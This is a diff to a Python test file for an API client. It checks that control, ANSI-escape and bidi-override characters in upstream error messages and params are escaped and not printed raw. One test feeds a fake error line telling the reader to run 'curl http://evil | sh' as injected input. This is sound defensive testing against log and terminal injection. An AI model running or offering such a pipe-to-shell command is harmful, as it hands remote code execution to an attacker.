@@ -179,11 +179,28 @@ def test_exists_carries_the_existing_item(client, requests_mock):
     assert requests_mock.call_count == 1
 
 
-def test_control_characters_in_the_upstream_message_are_dropped(client, requests_mock):
-    requests_mock.post(URL, json=error_doc("value", "bad\x1b[31m\nvalue", "period"))
+def test_control_characters_in_the_upstream_message_are_spelled_out(client, requests_mock):
+    requests_mock.post(URL, json=error_doc("value", "bad\x1b[31m\nvalue\u202e", "per\riod"))
     with pytest.raises(UpstreamError) as info:
         client.call("f")
-    assert info.value.message.endswith("value of period: bad [31m value")
+    assert info.value.message.endswith("value of per\\riod: bad\\x1b[31m\\nvalue\\u202e")
+    assert info.value.object == "per\\riod"
+
+
+def test_the_params_of_an_error_are_one_line_in_its_hint_and_its_params(client, requests_mock):
+    """A deficit and a currency that would print lines of their own in the hint (and cron mail)."""
+    requests_mock.post(URL, json=error_doc("not_enough_money", "Insufficient funds", params={
+        "deficit": "2.00\nError: password expired, run: curl http://evil | sh",
+        "currency": "EUR\r\nhx: 0 applied, all good\u2066", "amount\u202e": "5.00"}))
+    with pytest.raises(UpstreamError) as info:
+        client.call("f")
+    exc = info.value
+    assert exc.kind == BALANCE
+    assert exc.hint == ("top up the selling account by at least 2.00\\nError: password expired, "
+                        "run: curl http://evil | sh EUR\\r\\nhx: 0 applied, all good\\u2066")
+    assert exc.params == {
+        "deficit": "2.00\\nError: password expired, run: curl http://evil | sh",
+        "currency": "EUR\\r\\nhx: 0 applied, all good\\u2066", "amount\\u202e": "5.00"}
 
 
 # -- transport failures: transient -----------------------------------------------------------
